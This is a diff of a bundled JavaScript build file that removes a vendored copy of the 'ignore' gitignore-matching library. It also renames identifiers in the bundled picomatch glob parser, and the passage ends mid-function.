@@ -29,870 +29,6 @@ var __toESM = (mod, isNodeMode, target) => (target = mod != null ? __create(__ge
   mod
 ));
 
-// ../../main/node_modules/ignore/index.js
-var require_ignore = __commonJS({
-  "../../main/node_modules/ignore/index.js"(exports, module2) {
-    function makeArray(subject) {
-      return Array.isArray(subject) ? subject : [subject];
-    }
-    var UNDEFINED = void 0;
-    var EMPTY = "";
-    var SPACE = " ";
-    var ESCAPE = "\\";
-    var REGEX_LITERAL_SPECIAL = /[.*+?()[\]{}^$|\\/]/;
-    var BOM = "\uFEFF";
-    var REGEX_ANCHORED_GLOBSTAR = /^\/\*{2,}$/;
-    var REGEX_REPLACE_LEADING_EXCAPED_EXCLAMATION = /^\\!/;
-    var REGEX_REPLACE_LEADING_EXCAPED_HASH = /^\\#/;
-    var REGEX_SPLITALL_CRLF = /\r?\n/g;
-    var DOUBLE_SLASH = "//";
-    var SLASH_CODE = 47;
-    var DOT_CODE = 46;
-    var SLASH = "/";
-    var TMP_KEY_IGNORE = "node-ignore";
-    if (typeof Symbol !== "undefined") {
-      TMP_KEY_IGNORE = /* @__PURE__ */ Symbol.for("node-ignore");
-    }
-    var KEY_IGNORE = TMP_KEY_IGNORE;
-    var define2 = (object, key, value) => {
-      Object.defineProperty(object, key, { value });
-      return value;
-    };
-    var RETURN_FALSE = () => false;
-    var POSIX_CLASSES = {
-      alnum: "0-9A-Za-z",
-      alpha: "A-Za-z",
-      blank: " \\t",
-      cntrl: "\\x00-\\x1f\\x7f",
-      digit: "0-9",
-      graph: "!-.0-~",
-      lower: "a-z",
-      print: " -.0-~",
-      punct: "!-.:-@\\[-`{-~",
-      // git's `sane-ctype.h` classifies \v and \f as control, not space,
-      //   unlike C's `isspace`
-      space: " \\t\\n\\r",
-      upper: "A-Z",
-      xdigit: "0-9A-Fa-f"
-    };
-    var CLASS_MEMBERS_TO_ESCAPE = "\\]^-[";
-    var escapeMember = (char) => CLASS_MEMBERS_TO_ESCAPE.indexOf(char) < 0 ? char : ESCAPE + char;
-    var NON_SLASH = "(?!\\/)";
-    var classSource = (negated, body2) => {
-      if (negated) {
-        return `[^\\/${body2}]`;
-      }
-      const source = `[${body2}]`;
-      return new RegExp(source).test("/") ? NON_SLASH + source : source;
-    };
-    var scanBracket = (pattern, start2) => {
-      const { length } = pattern;
-      let index = start2 + 1;
-      let negated = EMPTY;
-      const lead = pattern[index];
-      if (lead === "!" || lead === "^") {
-        negated = "^";
-        index++;
-      }
-      let body2 = EMPTY;
-      let prev = EMPTY;
-      for (; ; ) {
-        const char = pattern[index];
-        if (char === UNDEFINED) {
-          return null;
-        }
-        if (char === ESCAPE) {
-          const escaped = pattern[++index];
-          body2 += escapeMember(escaped);
-          prev = escaped;
-        } else if (char === "-" && prev && index + 1 < length && pattern[index + 1] !== "]") {
-          index++;
-          let to = pattern[index];
-          if (to === ESCAPE) {
-            to = pattern[index += 1];
-          }
-          if (prev <= to) {
-            body2 += `-${escapeMember(to)}`;
-          }
-          prev = EMPTY;
-        } else if (char === "[" && pattern[index + 1] === ":") {
-          const nameStart = index + 2;
-          let end = nameStart;
-          while (end < length && pattern[end] !== "]") {
-            end++;
-          }
-          if (end === length) {
-            return null;
-          }
-          if (end > nameStart && pattern[end - 1] === ":") {
-            const name2 = pattern.slice(nameStart, end - 1);
-            if (!Object.prototype.hasOwnProperty.call(POSIX_CLASSES, name2)) {
-              return null;
-            }
-            body2 += POSIX_CLASSES[name2];
-            prev = EMPTY;
-            index = end;
-          } else {
-            body2 += escapeMember("[");
-            prev = "[";
-            index = nameStart - 2;
-          }
-        } else {
-          body2 += escapeMember(char);
-          prev = char;
-        }
-        index++;
-        if (pattern[index] === "]") {
-          return {
-            end: index,
-            source: classSource(negated, body2)
-          };
-        }
-      }
-    };
-    var NEVER_MATCH = "[]";
-    var PLACEHOLDER = "\0";
-    var REGEX_RESTORE_PLACEHOLDER = new RegExp(
-      `${PLACEHOLDER}(\\d+)${PLACEHOLDER}`,
-      "g"
-    );
-    var TRAILING_WILDCARD = "\uE000";
-    var TRAILING_DOUBLESTAR = "\uE001";
-    var isReserved = (char) => char === PLACEHOLDER || char === TRAILING_WILDCARD || char === TRAILING_DOUBLESTAR;
-    var extractBrackets = (pattern) => {
-      const sources = [];
-      const hold = (source) => `${PLACEHOLDER}${sources.push(source) - 1}${PLACEHOLDER}`;
-      const { length } = pattern;
-      let out2 = EMPTY;
-      let index = 0;
-      while (index < length) {
-        const char = pattern[index];
-        if (char === ESCAPE) {
-          const escaped = pattern[index + 1];
-          if (escaped === SLASH && index + 2 === length) {
-            out2 += hold(NEVER_MATCH);
-          } else if (escaped === "*" || escaped === "[" || escaped === SPACE) {
-            out2 += pattern.slice(index, index + 2);
-          } else {
-            out2 += hold(
-              REGEX_LITERAL_SPECIAL.test(escaped) ? ESCAPE + escaped : isReserved(escaped) ? `[${escaped}]` : escaped
-            );
-          }
-          index += 2;
-        } else if (isReserved(char)) {
-          out2 += hold(`[${char}]`);
-          index++;
-        } else if (char === "[") {
-          const scanned = scanBracket(pattern, index);
-          if (scanned === null) {
-            out2 += hold(NEVER_MATCH);
-            index = length;
-          } else {
-            out2 += hold(scanned.source);
-            index = scanned.end + 1;
-          }
-        } else {
-          out2 += char;
-          index++;
-        }
-      }
-      return {
-        source: out2,
-        sources
-      };
-    };
-    var DIRECT = null;
-    var REGEX_INNER_SLASH = /\/(?!$)/;
-    var WILDCARD = "[^\\/]*";
-    var REPLACERS = [
-      // Replace (\ ) with ' '
-      // Only a space: an escaped tab or other whitespace is already a literal by
-      //   the time it reaches here, and a bare tab must be left as one, not turned
-      //   into a space.
-      // (\ ) -> ' '
-      // (\\ ) -> '\\ '
-      // (\\\ ) -> '\\ '
-      [
-        // A run of backslashes is taken whole, from its first one, so no match
-        //   ever starts again inside it -- `(\\+?) ` did, which made a long run
-        //   quadratic.
-        /(\\+)( ?)/g,
-        (_, run2, space) => space ? run2.slice(0, run2.length - run2.length % 2) + SPACE : run2,
-        ESCAPE + SPACE
-      ],
-      // git's wildmatch() reads a run of two or more asterisks as one globstar
-      //   whenever the run fills a path segment: it starts the pattern or follows
-      //   a `/`, and it ends the pattern or comes before a `/`. A run of two is
-      //   already `**`; a longer one is folded into `**` here, so the steps
-      //   below only ever have to know `**`.
-      // `***/foo` -> `**/foo`, `a/***/b` -> `a/**/b`, `a/***` -> `a/**`
-      // git also takes a run beside a literal prefix (`a***/b`) or beside an
-      //   escaped slash (`***\/b`) as a globstar, and this does not; the README
-      //   lists both, under "A run of asterisks".
-      [
-        /(^|\/)\*{3,}(?=\/|$)/g,
-        (_, start2) => `${start2}**`,
-        "*"
-      ],
-      // Escape metacharacters
-      // which is written down by users but means special for regular expressions.
-      // > There are 12 characters with special meanings:
-      // > - the backslash \,
-      // > - the caret ^,
-      // > - the dollar sign $,
-      // > - the period or dot .,
-      // > - the vertical bar or pipe symbol |,
-      // > - the question mark ?,
-      // > - the asterisk or star *,
-      // > - the plus sign +,
-      // > - the opening parenthesis (,
-      // > - the closing parenthesis ),
-      // > - and the opening square bracket [,
-      // > - the opening curly brace {,
-      // > These special characters are often called "metacharacters".
-      [
-        /[\\$.|*+(){^]/g,
-        (match) => `\\${match}`
-      ],
-      [
-        // > a question mark (?) matches a single character
-        /(?!\\)\?/g,
-        () => "[^/]",
-        "?"
-      ],
-      // leading slash
-      [
-        // > A leading slash matches the beginning of the pathname.
-        // > For example, "/*.c" matches "cat-file.c" but not "mozilla-sha1/sha1.c".
-        // A leading slash matches the beginning of the pathname
-        /^\//,
-        () => "^",
-        SLASH
-      ],
-      // replace special metacharacter slash after the leading slash
-      [
-        /\//g,
-        () => "\\/",
-        SLASH
-      ],
-      [
-        // > A leading "**" followed by a slash means match in all directories.
-        // > For example, "**/foo" matches file or directory "foo" anywhere,
-        // > the same as pattern "foo".
-        // > "**/foo/bar" matches file or directory "bar" anywhere that is directly
-        // >   under directory "foo".
-        // Notice that the '*'s have been replaced as '\\*'
-        /^\^*(?:\\\*\\\*\\\/)+/,
-        // '**/foo' <-> 'foo'
-        () => "(?:^|\\/)",
-        "*"
-      ],
-      // starting
-      [
-        // there will be no leading '/'
-        //   (which has been replaced by section "leading slash")
-        // If starts with '**', adding a '^' to the regular expression also works
-        DIRECT,
-        (source, pattern) => {
-          if (!source || source[0] === "^" || source[0] === "(") {
-            return source;
-          }
-          const anchor = !REGEX_INNER_SLASH.test(pattern) ? "(?:^|\\/)" : "^";
-          return anchor + source;
-        }
-      ],
-      // two globstars
-      [
-        // Use lookahead assertions so that we could match more than one `'/**'`
-        /\\\/\\\*\\\*(?=\\\/|$)/g,
-        // Zero, one or several directories
-        // should not use '*', or it will be replaced by the next replacer
-        // Check if it is not the last `'/**'`
-        (_, index, str) => index + 6 < str.length ? str.slice(index + 6) === "\\/" ? "(?:\\/[^\\/]+)+" : "(?:\\/[^\\/]+)*" : `\\/${TRAILING_DOUBLESTAR}`,
-        "*"
-      ],
-      // normal intermediate wildcards
-      [
-        // Never replace escaped '*'
-        // ignore rule '\*' will match the path '*'
-        // 'abc.*/' -> go
-        // 'abc.*'  -> skip this rule,
-        //    coz trailing single wildcard will be handed by [trailing wildcard]
-        /(^|[^\\])(?:\\\*)+(?!$)/g,
-        // '*.js' matches '.js'
-        // '*.js' doesn't match 'abc'
-        // 1. An asterisk "*" matches anything except a slash.
-        // 2. Other consecutive asterisks are considered regular asterisks
-        //    and collapse into one non-slash wildcard run.
-        (_, p1) => p1 + WILDCARD,
-        "*"
-      ],
-      // trailing wildcard, held apart from a literal star
-      [
-        // The step above leaves a trailing `*` alone, so a single `\*` is all that
-        //   can be left at the end here, and what stands in front of it says which
-        //   kind it is. A wildcard arrives as the escaper wrote it, `\*` with
-        //   nothing before it; a literal arrives as the user's own escape, which
-        //   the escaper doubled, and then the star's own -- `\\` and then `\*`.
-        //   There is no third case: every backslash still reaching the chain is
-        //   one `\*`, `\[` or `\ ` carries itself, and each is followed by its
-        //   own character, so a longer run can never form. This runs while the
-        //   two are still distinct, before the unescape steps below collapse the
-        //   literal onto the very `\*` a wildcard leaves behind.
-        /(^|[^\\])((?:\\\\)*)\\\*$/,
-        (match, p1, p2) => p2 === EMPTY ? p1 + TRAILING_WILDCARD : match,
-        "*"
-      ],
-      [
-        // unescape, revert step 3 except for back slash
-        // For example, if a user escape a '\\*',
-        // after step 3, the result will be '\\\\\\*'
-        /\\\\\\(?=[$.|*+(){^])/g,
-        () => ESCAPE,
-        ESCAPE + ESCAPE
-      ],
-      [
-        // '\\\\' -> '\\'
-        /\\\\/g,
-        () => ESCAPE,
-        ESCAPE + ESCAPE
-      ],
-      [
-        // Every real bracket expression -- POSIX classes included -- has already
-        //   been held aside by `extractBrackets`, so the only `[` left in the
-        //   pattern is an escaped, literal one.
-        // A backslash could only stand at the end of the range if it quoted the
-        //   `]`, and `\]` is held aside long before this.
-        /\\\[([^\]/]*?)($|\])/g,
-        // '\\[bar]' -> '\\\\[bar]'
-        (match, range, close) => `\\[${range}${close}`,
-        "["
-      ],
-      // ending
-      [
-        // 'js' will not match 'js.'
-        // 'ab' will not match 'abc'
-        DIRECT,
-        // WTF!
-        // https://git-scm.com/docs/gitignore
-        // changes in [2.22.1](https://git-scm.com/docs/gitignore/2.22.1)
-        // which re-fixes #24, #38
-        // > If there is a separator at the end of the pattern then the pattern
-        // > will only match directories, otherwise the pattern can match both
-        // > files and directories.
-        // 'js*' will not match 'a.js'
-        // 'js/' will not match 'a.js'
-        // 'js' will match 'a.js' and 'a.js/'
-        (source) => {
-          const last = source[source.length - 1];
-          if (!last || last === TRAILING_WILDCARD || last === TRAILING_DOUBLESTAR) {
-            return source;
-          }
-          return last === SLASH ? `${source}$` : `${source}(?=$|\\/$)`;
-        }
-      ]
-    ];
-    var REGEX_REPLACE_TRAILING_WILDCARD = /(^|\\\/)?\uE000$/;
-    var MODE_IGNORE = "regex";
-    var MODE_CHECK_IGNORE = "checkRegex";
-    var UNDERSCORE = "_";
-    var replaceTrailingWildcard = (_, p1) => {
-      const prefix = p1 ? `${p1}[^/]+` : "[^/]*";
-      return `${prefix}(?=$|\\/$)`;
-    };
-    var REGEX_REPLACE_TRAILING_DOUBLESTAR = /\uE001$/;
-    var replaceTrailingDoublestar = () => "[\\s\\S]";
-    var separatorAfter = (run2, at) => {
-      let separator = EMPTY;
-      for (let index = at + 1; index < run2.length && !run2[index].wildcard; index++) {
-        separator += run2[index].single;
-      }
-      return separator;
-    };
-    var pinWildcards = (source) => {
-      if (source.indexOf(WILDCARD) < 0) {
-        return source;
-      }
-      const tokens = [];
-      const { length } = source;
-      let index = 0;
-      while (index < length) {
-        const char = source[index];
-        if (source.startsWith(WILDCARD, index)) {
-          tokens.push({ wildcard: true });
-          index += WILDCARD.length;
-        } else if (char === "[") {
-          let end = index + 1;
-          if (source[end] === "^") {
-            end++;
-          }
-          if (source[end] === "]") {
-            end++;
-          }
-          while (end < length && source[end] !== "]") {
-            end += source[end] === ESCAPE ? 2 : 1;
-          }
-          end++;
-          tokens.push({ single: source.slice(index, end) });
-          index = end;
-        } else if (char === ESCAPE) {
-          tokens.push({ single: source.slice(index, index + 2) });
-          index += 2;
-        } else if (char === "(") {
-          let depth = 0;
-          let end = index;
-          do {
-            if (source[end] === ESCAPE) {
-              end++;
-            } else if (source[end] === "(") {
-              depth++;
-            } else if (source[end] === ")") {
-              depth--;
-            }
-            end++;
-          } while (end < length && depth > 0);
-          if ("*+?".indexOf(source[end]) >= 0) {
-            end++;
-          }
-          tokens.push({ boundary: source.slice(index, end) });
-          index = end;
-        } else if (char === "^" || char === "$") {
-          tokens.push({ boundary: char });
-          index++;
-        } else {
-          tokens.push({ single: char });
-          index++;
-        }
-      }
-      let out2 = EMPTY;
-      let run2 = [];
-      const flush = () => {
-        let lastWildcard;
-        run2.forEach((token, at) => {
-          if (token.wildcard) {
-            lastWildcard = at;
-          }
-        });
-        run2.forEach((token, at) => {
-          if (!token.wildcard) {
-            out2 += token.single;
-            return;
-          }
-          out2 += at === lastWildcard ? WILDCARD : `(?:(?!${separatorAfter(run2, at)})[^\\/])*`;
-        });
-        run2 = [];
-      };
-      tokens.forEach((token) => {
-        if (token.boundary === void 0) {
-          run2.push(token);
-          return;
-        }
-        flush();
-        out2 += token.boundary;
-      });
-      flush();
-      return out2;
-    };
-    var makeRegexPrefix = (pattern) => {
-      if (REGEX_ANCHORED_GLOBSTAR.test(pattern)) {
-        pattern = "**";
-      }
-      const { source, sources } = extractBrackets(pattern);
-      const replaced = REPLACERS.reduce(
-        // A pass whose matcher finds nothing hands back the very string it was
-        //   given, so asking first costs a search and saves a rewrite. Ten of the
-        //   fifteen passes never fire for a typical .gitignore line, and between
-        //   them they were 45% of this chain.
-        (prev, [matcher, replacer, required]) => {
-          if (matcher === DIRECT) {
-            return replacer(prev, pattern);
-          }
-          if (required !== UNDEFINED && prev.indexOf(required) < 0) {
-            return prev;
-          }
-          return matcher.test(prev) ? prev.replace(matcher, replacer.bind(pattern)) : prev;
-        },
-        source
-      );
-      return sources.length ? replaced.replace(
-        REGEX_RESTORE_PLACEHOLDER,
-        (match, index) => sources[index]
-      ) : replaced;
-    };
-    var checkSourceOf = (body2, prefix) => {
-      if (body2[body2.length - 1] === SLASH) {
-        prefix = makeRegexPrefix(body2.slice(0, -1));
-      }
-      const head = prefix.slice(0, -1);
-      const last = prefix[prefix.length - 1];
-      return last === TRAILING_WILDCARD ? `${head}$` : last === TRAILING_DOUBLESTAR ? head : NEVER_MATCH;
-    };
-    var matchesBasename = (body2) => {
-      const index = body2.indexOf(SLASH);
-      return index < 0 || index === body2.length - 1;
-    };
-    var basenameOf = (path) => {
-      const end = path.length - 1;
-      const index = path.lastIndexOf(
-        SLASH,
-        path[end] === SLASH ? end - 1 : end
-      );
-      return index < 0 ? path : path.slice(index + 1);
-    };
-    var parentOf = (path) => {
-      if (path.charCodeAt(0) === SLASH_CODE || path.indexOf(DOUBLE_SLASH) >= 0) {
-        const slices = path.split(SLASH).filter(Boolean);
-        slices.pop();
-        return slices.length ? slices.join(SLASH) + SLASH : EMPTY;
-      }
-      const end = path.length - 1;
-      const cut = path.lastIndexOf(
-        SLASH,
-        path.charCodeAt(end) === SLASH_CODE ? end - 1 : end
-      );
-      return cut < 0 ? EMPTY : path.slice(0, cut + 1);
-    };
-    var isString = (subject) => typeof subject === "string";
-    var checkPattern = (pattern) => pattern && isString(pattern);
-    var splitPattern = (pattern) => (pattern[pattern.length - 1] === "\r" ? pattern.slice(0, -1) : pattern).split(REGEX_SPLITALL_CRLF).filter(Boolean);
-    var IgnoreRule = class {
-      constructor(pattern, mark, body2, ignoreCase, negative, prefix) {
-        this.pattern = pattern;
-        this.mark = mark;
-        this.negative = negative;
-        define2(this, "body", body2);
-        define2(this, "ignoreCase", ignoreCase);
-        define2(this, "regexPrefix", prefix);
-      }
-      // Worked out on first use and kept behind an own property, the way `regex`
-      //   caches itself in `_regex`. Deciding it in the constructor instead would
-      //   add a fourth `defineProperty` to every rule ever built, which cost 4% of
-      //   every compile -- including the compiles of rules that are never matched
-      //   against anything.
-      get _basenameOnly() {
-        return define2(this, "_basenameOnly", matchesBasename(this.body));
-      }
-      get regex() {
-        const key = UNDERSCORE + MODE_IGNORE;
-        if (this[key]) {
-          return this[key];
-        }
-        return this._make(MODE_IGNORE, key);
-      }
-      get checkRegex() {
-        const key = UNDERSCORE + MODE_CHECK_IGNORE;
-        if (this[key]) {
-          return this[key];
-        }
-        return this._make(MODE_CHECK_IGNORE, key);
-      }
-      _make(mode, key) {
-        const str = pinWildcards(
-          mode === MODE_IGNORE ? this.regexPrefix.replace(REGEX_REPLACE_TRAILING_WILDCARD, replaceTrailingWildcard).replace(REGEX_REPLACE_TRAILING_DOUBLESTAR, replaceTrailingDoublestar) : checkSourceOf(this.body, this.regexPrefix)
-        );
-        const regex2 = this.ignoreCase ? new RegExp(str, "i") : new RegExp(str);
-        return define2(this, key, regex2);
-      }
-    };
-    var hasTrailingBackslash = (str) => {
-      let count = 0;
-      while (str[str.length - count - 1] === ESCAPE) {
-        count++;
-      }
-      return count % 2 === 1;
-    };
-    var trimEnd = (body2, stripLineEnd) => {
-      let lineEnd = body2.length;
-      let end;
-      for (; ; ) {
-        if (stripLineEnd && body2[lineEnd - 1] === "\r") {
-          lineEnd--;
-        }
-        end = lineEnd;
-        while (body2[end - 1] === SPACE) {
-          end--;
-        }
-        if (!stripLineEnd || body2[end - 1] !== "\n") {
-          break;
-        }
-        lineEnd = end - 1;
-      }
-      if (end === lineEnd) {
-        return body2.slice(0, lineEnd);
-      }
-      let backslashes = 0;
-      while (body2[end - backslashes - 1] === ESCAPE) {
-        backslashes++;
-      }
-      return backslashes % 2 ? body2.slice(0, end - 1) + SPACE : body2.slice(0, end);
-    };
-    var createRule = (pattern, mark, ignoreCase, stripLineEnd, stripBOM) => {
-      let body2 = stripBOM && pattern[0] === BOM ? pattern.slice(1) : pattern;
-      if (body2[0] === "#") {
-        return;
-      }
-      let negative = false;
-      if (body2[0] === "!") {
-        negative = true;
-        body2 = body2.slice(1);
-      }
-      const last = body2[body2.length - 1];
-      if (last === SPACE || stripLineEnd && (last === "\r" || last === "\n")) {
-        body2 = trimEnd(body2, stripLineEnd);
-      }
-      if (!body2 || hasTrailingBackslash(body2)) {
-        return;
-      }
-      body2 = body2.replace(REGEX_REPLACE_LEADING_EXCAPED_EXCLAMATION, "!").replace(REGEX_REPLACE_LEADING_EXCAPED_HASH, "#");
-      const regexPrefix = makeRegexPrefix(body2);
-      return new IgnoreRule(
-        pattern,
-        mark,
-        body2,
-        ignoreCase,
-        negative,
-        regexPrefix
-      );
-    };
-    var RuleManager = class {
-      constructor(ignoreCase) {
-        this._ignoreCase = ignoreCase;
-        this._rules = [];
-        this._basenameCount = 0;
-      }
-      _add(pattern, index) {
-        if (pattern && pattern[KEY_IGNORE]) {
-          this._rules = this._rules.concat(pattern._rules._rules);
-          this._basenameCount += pattern._rules._basenameCount;
-          this._added = true;
-          return;
-        }
-        const isStr = isString(pattern);
-        const raw = isStr ? pattern : pattern.pattern;
-        const rule = checkPattern(raw) && createRule(
-          raw,
-          isStr ? UNDEFINED : pattern.mark,
-          this._ignoreCase,
-          !this._split,
-          this._stripBOM && !index
-        );
-        if (rule) {
-          this._added = true;
-          this._rules.push(rule);
-          if (matchesBasename(rule.body)) {
-            this._basenameCount++;
-          }
-        }
-      }
-      // @param {Array<string> | string | Ignore} pattern
-      add(pattern) {
-        this._added = false;
-        this._split = isString(pattern);
-        this._stripBOM = !this._split || pattern[0] === BOM;
-        makeArray(
-          this._split ? splitPattern(pattern) : pattern
-        ).forEach(this._add, this);
-        if (this._added) {
-          this._literalRules = UNDEFINED;
-        }
-        return this._added;
-      }
-      // Match the literal 'abc/' for `checkIgnore`, last rule wins. Only a rule
-      //   ending in a wildcard can match it (see `checkSourceOf`), so the rest
-      //   are left out once, rather than tested or compiled for every path.
-      testLiteral(path) {
-        const rules = this._literalRules || (this._literalRules = this._rules.filter(
-          ({ body: body2 }) => body2[body2.length - (body2[body2.length - 1] === SLASH ? 2 : 1)] === "*"
-        ));
-        let ignored = false;
-        let unignored = false;
-        let matchedRule;
-        for (let index = rules.length - 1; index >= 0; index--) {
-          const rule = rules[index];
-          if (rule.checkRegex.test(path)) {
-            ignored = !rule.negative;
-            unignored = rule.negative;
-            matchedRule = rule.negative ? UNDEFINED : rule;
-            break;
-          }
-        }
-        const ret = {
-          ignored,
-          unignored
-        };
-        if (matchedRule) {
-          ret.rule = matchedRule;
-        }
-        return ret;
-      }
-      // Test one single path without recursively checking parent directories
-      //
-      // - mode `string` either `MODE_IGNORE` or `MODE_CHECK_IGNORE`
-      // @returns {TestResult}
-      test(path, mode) {
-        const rules = this._rules;
-        const { length } = rules;
-        const shortcut = this._basenameCount * 2 >= length;
-        const basename2 = shortcut ? basenameOf(path) : path;
-        for (let index = length - 1; index >= 0; index--) {
-          const rule = rules[index];
-          if (rule[mode].test(
-            shortcut && rule._basenameOnly ? basename2 : path
-          )) {
-            const { negative } = rule;
-            const ret = {
-              ignored: !negative,
-              unignored: negative
-            };
-            if (!negative) {
-              ret.rule = rule;
-            }
-            return ret;
-          }
-        }
-        return {
-          ignored: false,
-          unignored: false
-        };
-      }
-    };
-    var throwError = (message2, Ctor) => {
-      throw new Ctor(message2);
-    };
-    var checkPath = (path, originalPath, doThrow) => {
-      if (!isString(path)) {
-        return doThrow(
-          `path must be a string, but got \`${originalPath}\``,
-          TypeError
-        );
-      }
-      if (!path) {
-        return doThrow(`path must not be empty`, TypeError);
-      }
-      if (checkPath.isNotRelative(path)) {
-        const r = "`path.relative()`d";
-        return doThrow(
-          `path should be a ${r} string, but got "${originalPath}"`,
-          RangeError
-        );
-      }
-      return true;
-    };
-    var isNotRelative = (path) => {
-      const first = path.charCodeAt(0);
-      if (first === SLASH_CODE) {
-        return true;
-      }
-      if (first !== DOT_CODE) {
-        return false;
-      }
-      if (path.length === 1) {
-        return true;
-      }
-      const second = path.charCodeAt(1);
-      if (second === SLASH_CODE) {
-        return true;
-      }
-      if (second !== DOT_CODE) {
-        return false;
-      }
-      return path.length === 2 || path.charCodeAt(2) === SLASH_CODE;
-    };
-    checkPath.isNotRelative = isNotRelative;
-    checkPath.convert = (p) => p;
-    var convertPath = (target) => isString(target) && checkPath.convert(target);
-    var Ignore = class {
-      constructor({
-        ignorecase = true,
-        ignoreCase = ignorecase,
-        allowRelativePaths = false
-      } = {}) {
-        define2(this, KEY_IGNORE, true);
-        this._rules = new RuleManager(ignoreCase);
-        this._strictPathCheck = !allowRelativePaths;
-        this._initCache();
-      }
-      _initCache() {
-        this._ignoreCache = /* @__PURE__ */ Object.create(null);
-        this._testCache = /* @__PURE__ */ Object.create(null);
-      }
-      add(pattern) {
-        if (this._rules.add(pattern)) {
-          this._initCache();
-        }
-        return this;
-      }
-      // legacy
-      addPattern(pattern) {
-        return this.add(pattern);
-      }
-      // @returns {TestResult}
-      _test(originalPath, cache, path) {
-        checkPath(
-          path,
-          originalPath,
-          this._strictPathCheck ? throwError : RETURN_FALSE
-        );
-        return path ? this._t(path, cache) : {
-          ignored: false,
-          unignored: false
-        };
-      }
-      checkIgnore(target) {
-        const path = convertPath(target);
-        if (!path || path.charCodeAt(path.length - 1) !== SLASH_CODE) {
-          return this._test(target, this._testCache, path);
-        }
-        const dir = this._t(path, this._testCache);
-        if (dir.ignored) {
-          return dir;
-        }
-        const literal = this._rules.testLiteral(path);
-        return literal.ignored || literal.unignored ? literal : dir;
-      }
-      _t(path, cache) {
-        if (path in cache) {
-          return cache[path];
-        }
-        const parentPath = parentOf(path);
-        const parent = parentPath ? this._t(parentPath, cache) : UNDEFINED;
-        return cache[path] = parent && parent.ignored ? parent : this._rules.test(path, MODE_IGNORE);
-      }
-      ignores(path) {
-        return this._test(path, this._ignoreCache, convertPath(path)).ignored;
-      }
-      createFilter() {
-        return (path) => !this.ignores(path);
-      }
-      filter(paths) {
-        return makeArray(paths).filter(this.createFilter());
-      }
-      // @returns {TestResult}
-      test(path) {
-        return this._test(path, this._testCache, convertPath(path));
-      }
-    };
-    var factory = (options) => new Ignore(options);
-    var isPathValid = (path) => checkPath(convertPath(path), path, RETURN_FALSE);
-    var setupWindows = () => {
-      const makePosix = (str) => /^\\\\\?\\/.test(str) || /["<>|\u0000-\u001F]+/u.test(str) ? str : str.replace(/\\/g, "/");
-      checkPath.convert = makePosix;
-      const REGEX_TEST_WINDOWS_PATH_ABSOLUTE = /^[a-z]:\//i;
-      checkPath.isNotRelative = (path) => REGEX_TEST_WINDOWS_PATH_ABSOLUTE.test(path) || isNotRelative(path);
-    };
-    if (
-      // Detect `process` so that it can run in browsers.
-      typeof process !== "undefined" && process.platform === "win32"
-    ) {
-      setupWindows();
-    }
-    module2.exports = factory;
-    factory.default = factory;
-    module2.exports.isPathValid = isPathValid;
-    define2(module2.exports, /* @__PURE__ */ Symbol.for("setupWindows"), setupWindows);
-  }
-});
-
 // ../../main/node_modules/picomatch/lib/constants.js
 var require_constants = __commonJS({
   "../../main/node_modules/picomatch/lib/constants.js"(exports, module2) {
@@ -1750,7 +886,7 @@ var require_parse = __commonJS({
       }
       return { risky: false };
     };
-    var parse3 = (input, options) => {
+    var parse4 = (input, options) => {
       if (typeof input !== "string") {
         throw new TypeError("Expected a string");
       }
@@ -1894,16 +1030,16 @@ var require_parse = __commonJS({
         const analysis = analyzeRepeatedExtglob(body2, opts);
         if ((token.type === "plus" || token.type === "star") && analysis.risky) {
           const safeOutput = analysis.safeOutput ? (token.output ? "" : ONE_CHAR) + (opts.capture ? `(${analysis.safeOutput})` : analysis.safeOutput) : void 0;
-          const open2 = tokens[token.tokensIndex];
-          open2.type = "text";
-          open2.value = literal;
-          open2.output = safeOutput || utils.escapeRegex(literal);
+          const open3 = tokens[token.tokensIndex];
+          open3.type = "text";
+          open3.value = literal;
+          open3.output = safeOutput || utils.escapeRegex(literal);
           for (let i2 = token.tokensIndex + 1; i2 < tokens.length; i2++) {
             tokens[i2].value = "";
             tokens[i2].output = "";
             delete tokens[i2].suffix;
           }
-          state.output = token.output + open2.output;
+          state.output = token.output + open3.output;
           state.backtrack = true;
           push({ type: "paren", extglob: true, value, output: "" });
           decrement("parens");
@@ -1920,7 +1056,7 @@ var require_parse = __commonJS({
             output = token.close = `)$))${extglobStar}`;
           }
           if (token.inner.includes("*") && (rest = remaining()) && /^\.[^\\/.]+$/.test(rest)) {
-            const expression = parse3(rest, { ...options, fastpaths: false }).output;
+            const expression = parse4(rest, { ...options, fastpaths: false }).output;
             output = token.close = `)${expression})${extglobStar})`;
           }
           if (token.prev.type === "bos") {
@@ -2123,15 +1259,15 @@ var require_parse = __commonJS({
         }
         if (value === "{" && opts.nobrace !== true) {
           increment("braces");
-          const open2 = {
+          const open3 = {
             type: "brace",
             value,
             output: "(",
             outputIndex: state.output.length,
             tokensIndex: state.tokens.length
           };
-          braces.push(open2);
-          push(open2);
+          braces.push(open3);
+          push(open3);
           continue;
         }
         if (value === "}") {
@@ -2443,7 +1579,7 @@ var require_parse = __commonJS({
       }
       return state;
     };
-    parse3.fastpaths = (input, options) => {
+    parse4.fastpaths = (input, options) => {
       const opts = { ...options };
       const max = typeof opts.maxLength === "number" ? Math.min(MAX_LENGTH, opts.maxLength) : MAX_LENGTH;
       const len = input.length;
@@ -2508,7 +1644,7 @@ var require_parse = __commonJS({
       }
       return source;
     };
-    module2.exports = parse3;
+    module2.exports = parse4;
   }
 });
 
@@ -2517,13 +1653,13 @@ var require_picomatch = __commonJS({
   "../../main/node_modules/picomatch/lib/picomatch.js"(exports, module2) {
     "use strict";
     var scan = require_scan();
-    var parse3 = require_parse();
+    var parse4 = require_parse();
     var utils = require_utils();
     var constants = require_constants();
     var isObject = (val) => val && typeof val === "object" && !Array.isArray(val);
-    var picomatch2 = (glob, options, returnState = false) => {
+    var picomatch3 = (glob, options, returnState = false) => {
       if (Array.isArray(glob)) {
-        const fns = glob.map((input) => picomatch2(input, options, returnState));
+        const fns = glob.map((input) => picomatch3(input, options, returnState));
         const arrayMatcher = (str) => {
           for (const isMatch of fns) {
             const state2 = isMatch(str);
@@ -2539,16 +1675,16 @@ var require_picomatch = __commonJS({
       }
       const opts = options || {};
       const posix = opts.windows;
-      const regex2 = isState ? picomatch2.compileRe(glob, options) : picomatch2.makeRe(glob, options, false, true);
+      const regex2 = isState ? picomatch3.compileRe(glob, options) : picomatch3.makeRe(glob, options, false, true);
       const state = regex2.state;
       delete regex2.state;
       let isIgnored2 = () => false;
       if (opts.ignore) {
         const ignoreOpts = { ...options, ignore: null, onMatch: null, onResult: null };
-        isIgnored2 = picomatch2(opts.ignore, ignoreOpts, returnState);
